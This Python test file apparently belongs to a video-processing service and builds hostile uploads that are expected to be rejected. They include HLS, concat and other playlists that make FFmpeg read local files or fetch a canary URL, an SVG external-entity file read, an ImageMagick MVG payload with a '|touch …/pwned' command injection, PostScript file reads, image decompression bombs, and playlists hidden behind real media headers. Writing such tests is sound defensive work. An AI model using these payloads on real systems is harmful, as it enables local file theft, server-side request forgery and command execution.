"""Texts and pictures that name other files, in the hope that something follows them."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Callable

from tests.hostile.canary import Canary
from tests.hostile.case import Bytes, Case, case
from tests.hostile.clips import base

LIST, NOT = "playlist-not-allowed", "not-a-video"

Text = Callable[[Canary], str]


def _text(text: Text) -> Bytes:
    return lambda canary: text(canary).encode()


def _hls(uri: str, *more: str) -> str:
    lines = ("#EXTM3U", "#EXT-X-TARGETDURATION:9", *more, "#EXTINF:9,", uri, "#EXT-X-ENDLIST", "")
    return "\n".join(lines)


def _playlists() -> list[Case]:
    def hls(name: str, tries: str, text: Text) -> Case:
        return case(name, tries, _text(text), LIST)

    return [
        hls(
            "hls-file.m3u8.mp4", "a playlist of a file outside", lambda c: _hls(f"file://{c.file}")
        ),
        hls("hls-path.mp4", "the same by its bare path", lambda c: _hls(str(c.file))),
        hls("hls-http.mp4", "a playlist of an address", lambda c: _hls(c.url)),
        hls("hls-bom.mkv", "a byte order mark before it", lambda c: "\ufeff" + _hls(c.url)),
        hls(
            "hls-key.ts",
            "a key to be fetched",
            lambda c: _hls("x.ts", f'#EXT-X-KEY:METHOD=AES-128,URI="{c.url}"'),
        ),
        hls(
            "hls-map.mp4",
            "an init to be fetched",
            lambda c: _hls("x.mp4", f'#EXT-X-MAP:URI="file://{c.file}"'),
        ),
        hls(
            "hls-variants.mp4",
            "variants to be fetched",
            lambda c: f"#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n{c.url}\n",
        ),
        hls(
            "hls-concat-protocol.mp4",
            "concat: glues a secret to an address",
            lambda c: _hls(f"concat:{c.url}?|subfile,,start,0,end,64,,:{c.file}"),
        ),
        hls(
            "hls-subfile.mp4",
            "subfile: cuts out a part of a file",
            lambda c: _hls(f"subfile,,start,0,end,64,,:{c.file}"),
        ),
        hls("hls-crypto.mp4", "crypto: opens a file", lambda c: _hls(f"crypto:{c.file}")),
        hls(
            "hls-data.mp4",
            "data: carries another playlist",
            lambda c: _hls(f"data:application/x-mpegurl,%23EXTM3U%0A%23EXTINF:1,%0A{c.url}"),
        ),
        hls("hls-cache.mp4", "cache: and async: in front", lambda c: _hls(f"cache:async:{c.url}")),
        hls(
            "ffconcat.mp4", "a concat script", lambda c: f"ffconcat version 1.0\nfile '{c.file}'\n"
        ),
        hls("concat.mp4", "a concat script of the old kind", lambda c: f"file '{c.file}'\n"),
        hls(
            "sdp.mp4",
            "a session that is listened to and answered",
            lambda c: (
                "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\n"
                f"m=video {c.udp_port} RTP/AVP 96\na=rtpmap:96 H264/90000\n"
            ),
        ),
        hls(
            "dash.mp4",
            "a DASH manifest",
            lambda c: (
                f"<?xml version='1.0'?><MPD xmlns='urn:mpeg:dash:schema:mpd:2011' type='static'>"
                f"<BaseURL>{c.url}</BaseURL><Period><AdaptationSet mimeType='video/mp4'>"
                "<Representation id='1'><SegmentList><SegmentURL media='x'/></SegmentList>"
                "</Representation></AdaptationSet></Period></MPD>"
            ),
        ),
        hls(
            "smooth.mp4",
            "a Smooth Streaming manifest",
            lambda c: f"<SmoothStreamingMedia><StreamIndex Url='{c.url}'/></SmoothStreamingMedia>",
        ),
        hls("pls.mp4", "a playlist of Winamp", lambda c: f"[playlist]\nFile1={c.url}\n"),
        hls(
            "asx.avi",
            "a playlist of Windows",
            lambda c: f"<asx version='3.0'><entry><ref href='{c.url}'/></entry></asx>",
        ),
        hls("smil.mp4", "SMIL", lambda c: f"<smil><body><video src='{c.url}'/></body></smil>"),
        hls("rtsp.mov", "a reference of QuickTime", lambda c: f"RTSPtext\n{c.url}\n"),
        hls("strm.mkv", "a file that is an address", lambda c: f"{c.url}\n"),
        hls("cue.flac", "a sheet that names a file", lambda c: f'FILE "{c.file}" WAVE\n'),
        hls(
            "svg-xml.mp4",
            "a drawing with pictures from elsewhere",
            lambda c: (
                "<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY x SYSTEM 'file://"
                + str(c.file)
                + "'>]>"
                f"<svg xmlns='http://www.w3.org/2000/svg'><image href='{c.url}'/>&x;</svg>"
            ),
        ),
    ]


def _others() -> list[Case]:
    def text(name: str, tries: str, content: Text) -> Case:
        return case(name, tries, _text(content), NOT)

    return [
        text(
            "svg.mp4",
            "a drawing without XML's first line",
            lambda c: f"<svg xmlns='http://www.w3.org/2000/svg'><image href='{c.url}'/></svg>",
        ),
        text(
            "mvg.mp4",
            "a script for ImageMagick",
            lambda c: (
                f"push graphic-context\nviewbox 0 0 9 9\nimage over 0,0 0,0 '{c.url}'\n"
                f"fill 'url({c.url}\"|touch {c.folder}/pwned\")'\npop graphic-context\n"
            ),
        ),
        text("msl.mp4", "another one", lambda c: f"<image><read filename='{c.file}'/></image>"),
        text(
            "eps.mp4",
            "PostScript that reads files",
            lambda c: f"%!PS-Adobe-3.0 EPSF-3.0\n({c.file}) (r) file\nshowpage\n",
        ),
        text("avisynth.avi", "a script for AviSynth", lambda c: f'AviSource("{c.file}")\n'),
        text("ffmetadata.mp4", "chapters of FFmpeg", lambda c: f";FFMETADATA1\ntitle={c.url}\n"),
        text(
            "ass.mkv",
            "subtitles alone, with fonts from elsewhere",
            lambda c: (
                f"[Script Info]\n[V4+ Styles]\nStyle: a,{c.file},20\n[Fonts]\nfontname: {c.file}\n"
            ),
        ),
        text("html.mp4", "a page", lambda c: f"<!doctype html><video src='{c.url}'></video>"),
        text(
            "lines-then-hls.mp4",
            "a playlist behind lines and a comment",
            lambda c: "\n" * 5000 + "#\n" + _hls(c.url),
        ),
        text(
            "comment-then-concat.mp4",
            "a script behind a comment",
            lambda c: f"# ffconcat version 1.0\nfile '{c.file}'\n",
        ),
        case(
            "exr.mp4",
            "a picture in a format with a poor record",
            lambda c: b"\x76\x2f\x31\x01\x02\0\0\0" + bytes(200),
            NOT,
        ),
        case("png-bomb.mp4", "a picture of 65535 × 65535", lambda c: _png(65535, 65535), NOT),
        case(
            "apng-bomb.mp4", "four billion of them", lambda c: _png(65535, 65535, 0xFFFFFFFF), NOT
        ),
        case(
            "webp-bomb.mp4",
            "a picture of 16383 × 16383",
            lambda c: b"RIFF\x20\0\0\0WEBPVP8L\x0d\0\0\0\x2f\xff\xff\xff\x0f" + bytes(16),
            NOT,
        ),
        case(
            "tiff.mp4",
            "a picture that names its parts by offset",
            lambda c: b"II*\0\x08\0\0\0\xff\xff" + b"\xff" * 400,
            NOT,
        ),
        case("zip.mp4", "an archive", lambda c: b"PK\x03\x04" + bytes(500), NOT),
        case("pdf.mp4", "a document", lambda c: b"%PDF-1.7\n" + bytes(500), NOT),
        case("elf.mp4", "a program", lambda c: b"\x7fELF\x02\x01\x01" + bytes(500), NOT),
    ]


def _disguised() -> list[Case]:
    def behind(front: Callable[[], bytes]) -> Bytes:
        return lambda canary: front() + b"\n" + _hls(canary.url).encode()

    ftyp = b"\0\0\0\x18ftypisom\0\0\0\0isomavc1"
    return [
        case(
            "hls-behind-ftyp.mp4",
            "a playlist behind the beginning of an MP4",
            behind(lambda: ftyp),
            "truncated-file",
        ),
        case(
            "hls-behind-id3.mp3",
            "a playlist behind an ID3 tag",
            behind(lambda: b"ID3\x04\0\0\0\0\x02\x01" + bytes(257)),
            NOT,
        ),
        case(
            "hls-behind-ebml.mkv",
            "a playlist behind the mark of Matroska",
            behind(lambda: b"\x1a\x45\xdf\xa3"),
            "truncated-file",
        ),
        case(
            "hls-behind-ts.ts",
            "a playlist behind packets of a transport stream",
            behind(lambda: base("ts")[: 188 * 20]),
            {"plays", "cannot-decode"},
        ),
        case("hls-in-gab2.avi", "a playlist as subtitles inside an AVI", _gab2, {"plays"}),
        case(
            "concat-in-gab2.avi",
            "a concat script there",
            lambda c: _gab2(c, f"ffconcat version 1.0\nfile '{c.file}'\n"),
            {"plays"},
        ),
    ]


def _gab2(canary: Canary, text: str = "") -> bytes:
    """An AVI with a text stream of the kind GAB2, which FFmpeg opens as a file of its own."""
    inner = (text or _hls(canary.url)).encode()
    name = "a\0".encode("utf-16-le")
    gab2 = b"GAB2\0" + struct.pack("<HI", 2, len(name)) + name + struct.pack("<HI", 4, len(inner))
    first = _chunk(b"02tx", gab2 + inner)
    strh = b"txts" + bytes(16) + struct.pack("<II", 1, 1) + struct.pack("<II", 0, 1) + bytes(20)
    strl = _chunk(b"LIST", b"strl" + _chunk(b"strh", strh) + _chunk(b"strf", b""))
    clip, lists = base("avi"), []
    at = 12
    while at + 8 <= len(clip):
        name, size = struct.unpack_from("<4sI", clip, at)
        content = clip[at + 8 : at + 8 + size]
        if content.startswith(b"hdrl"):
            count = content.index(b"avih") + 8 + 24
            content = content[:count] + struct.pack("<I", 3) + content[count + 4 :] + strl
        elif content.startswith(b"movi"):
            content = b"movi" + first + content[4:]
        if name == b"LIST":
            lists.append(_chunk(name, content))
        at += 8 + size + size % 2
    return _chunk(b"RIFF", b"AVI " + b"".join(lists))


def _chunk(name: bytes, content: bytes) -> bytes:
    return name + struct.pack("<I", len(content)) + content + bytes(len(content) % 2)


def _png(width: int, height: int, frames: int = 0) -> bytes:
    def part(name: bytes, content: bytes) -> bytes:
        check = zlib.crc32(name + content)
        return struct.pack(">I", len(content)) + name + content + struct.pack(">I", check)

    head = part(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0))
    moving = part(b"acTL", struct.pack(">II", frames, 0)) if frames else b""
    data = part(b"IDAT", zlib.compress(bytes(1 << 20), 9))
    return b"\x89PNG\r\n\x1a\n" + head + moving + data + part(b"IEND", b"")


def cases() -> list[Case]:
    """All of them."""
    return [*_playlists(), *_others(), *_disguised()]
